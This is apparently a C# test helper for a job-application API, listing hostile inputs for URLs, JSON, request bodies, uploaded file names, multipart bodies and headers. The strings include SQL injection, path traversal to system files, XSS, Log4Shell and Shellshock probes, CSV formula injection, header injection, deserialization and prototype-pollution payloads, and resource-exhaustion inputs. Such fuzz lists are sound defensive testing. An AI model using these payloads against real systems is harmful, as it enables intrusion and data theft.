namespace JobFunctions.Api.Tests.Contract;

/// <summary>What nobody honest sends.</summary>
internal static class HostileText
{
    private static readonly string Long = new('я', 100_000);

    /// <summary>For addresses: percent-encoded already, and not always well.</summary>
    public static IReadOnlyList<string> InAddresses { get; } =
    [
        "%00", "a%00b", "%ED%A0%80", "%FF%FE", "%C0%AF", "%F0%9F%98%80", "%E2%80%AEgpj.exe", "%E2%80%8B", "%CC%81", "%0D%0AX-Injected:%201", "%09", "%20",
        "'%20OR%20'1'='1", "';%20DROP%20TABLE%20accounts;--", "PartitionKey%20eq%20'x'%20or%20true", "$filter=true", "%7B%22$gt%22:%22%22%7D", "%7B%7B7*7%7D%7D",
        "..%2F..%2Fetc%2Fpasswd", "%252e%252e%252f", "....//", "%5C..%5C", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%25", "%25s%25n", "~", "!", "=", "@", "*",
        "NaN", "Infinity", "-1", "0", "1.5", "1e999", "0x1F", "99999999999999999999999999999999", "-9223372036854775809", "9999-12-31T23:59:59.9999999Z",
        "0001-01-01", "9999-99-99", "true", "null", "undefined", "%5B%5D", "%7B%7D", "00000000-0000-0000-0000-000000000000", "hh:", ":1", "hh:1!", new string('a', 3000),
    ];

    /// <summary>For members of bodies, as JSON.</summary>
    public static IReadOnlyList<string> InJson { get; } =
    [
        "\"\\u0000\"", "\"a\\u0000b\"", "\"\\ud83d\"", "\"\\ude00\\ud83d\"", "\"\\u202Egpj.exe\"", "\"\\u2028\"", "\"\\u200b\"", "\"a\\r\\nBcc: b@example.com\"", "\"\\u001b[2J\"",
        "\"\"", "\" \"", "\"😀👩‍💻\"", "\"' OR '1'='1\"", "\"PartitionKey eq 'x' or true\"", "\"{\\\"$gt\\\": \\\"\\\"}\"", "\"../../etc/passwd\"", "\"<script>alert(1)</script>\"",
        "\"{{7*7}} ${7*7} %s%n\"", "\"javascript:alert(1)\"", "\"http://[::1\"", "\"a@b\"", "\"NaN\"", "\"-1\"", "\"1e999\"", "\"9999-99-99\"", "\"9999-12-31T23:59:59.9999999Z\"",
        "\"0001-01-01T00:00:00+14:00\"", "\"null\"", $"\"{Long}\"",
        "null", "true", "false", "0", "-1", "1.5", "-0", "1e308", "1e400", "-1e400", "9223372036854775807", "9223372036854775808", "99999999999999999999999999999999999999999",
        "79228162514264337593543950335", "[]", "[null]", "[[]]", "[1, \"a\", {}]", "[\"\\ud83d\"]", "{}", "{\"$type\": \"System.IO.FileInfo\"}", "{\"from\": \"x\"}", "{\"__proto__\": {}}",
        $"{new string('[', 31)}{new string(']', 31)}", $"{new string('[', 500)}{new string(']', 500)}", $"[{string.Join(',', Enumerable.Repeat("\"a\"", 5000))}]",
    ];

    /// <summary>For whole bodies.</summary>
    public static IReadOnlyList<string> AsBodies { get; } =
    [
        "", " ", "null", "true", "0", "\"text\"", "[]", "[{}]", "{", "}", "{\"a\":", "{\"a\": 1,}", "{'a': 1}", "\0", "\uFEFF{}", "NaN", "{\"\": 1}", "{\"\\u0000\": 1}", "{\"\\ud83d\": 1}", "<xml/>",
        $"{{\"a\": {new string('[', 5000)}", "// comment\n{}", "{} {}",
    ];

    /// <summary>For names of uploaded files.</summary>
    public static IReadOnlyList<string> AsFileNames { get; } =
    [
        "", " ", ".", "..", "../../etc/passwd", "..\\..\\boot.ini", "C:\\con", "a\0.pdf", "a\u202Efdp.exe", "a\u0007.pdf", "резюме 😀.docx", "%2e%2e%2f", "a.pdf%00.exe", "\\", "a;b=c", "a'b", "a\tb",
        "<img src=x onerror=alert(1)>.pdf", "${jndi:ldap://x/a}", "=cmd|'/C calc'!A0.csv", new string('я', 3000),
    ];

    /// <summary>For whole multipart bodies with the boundary <c>b</c>.</summary>
    public static IReadOnlyList<string> AsMultipart { get; } =
    [
        "", "--b", "--b--", "--b--\r\n", "--b\r\n", "--b\r\n\r\n", "--b\r\n\r\ntext", "text", "--c\r\n\r\ntext\r\n--c--", "--b\r\nContent-Disposition: form-data\r\n\r\nx\r\n--b--",
        "--b\r\nContent-Disposition: form-data; name=\"file\"\r\n\r\nx\r\n--b--", "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\n\r\nx",
        "--b\r\nContent-Disposition: form-data; name=\"\"; filename=\"a.txt\"\r\n\r\nx\r\n--b--", "--b\r\nContent-Disposition: \r\n\r\nx\r\n--b--", "--b\r\n: x\r\n\r\nx\r\n--b--",
        "--b\r\nContent-Type: multipart/mixed; boundary=b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\n\r\nx\r\n--b--",
        "--b\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\n\r\n====\r\n--b--",
        $"--b\r\nX: {new string('x', 40_000)}\r\n\r\nx\r\n--b--",
        string.Concat(Enumerable.Repeat("--b\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\nx\r\n", 3000)) + "--b--",
        string.Concat(Enumerable.Repeat("--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\n\r\nx\r\n", 100)) + "--b--",
    ];

    /// <summary>For headers, in the characters that a header may have.</summary>
    public static IReadOnlyList<string> InHeaders { get; } =
    [
        " ", ",", ";", "\"", "*", "W/", "\"\"", "' OR '1'='1", "../../etc/passwd", "%00", "${jndi:ldap://x/a}", "()  { :;}; echo", "<script>", "{}", "-1", "NaN", "a\tb", "=?utf-8?q?x?=", "q=;;;",
        "en;q=NaN,*;q=-1", "text/html;q=999", "application/json; charset=x", "multipart/form-data", "99999999999999999999", new string('a', 8000),
    ];
}
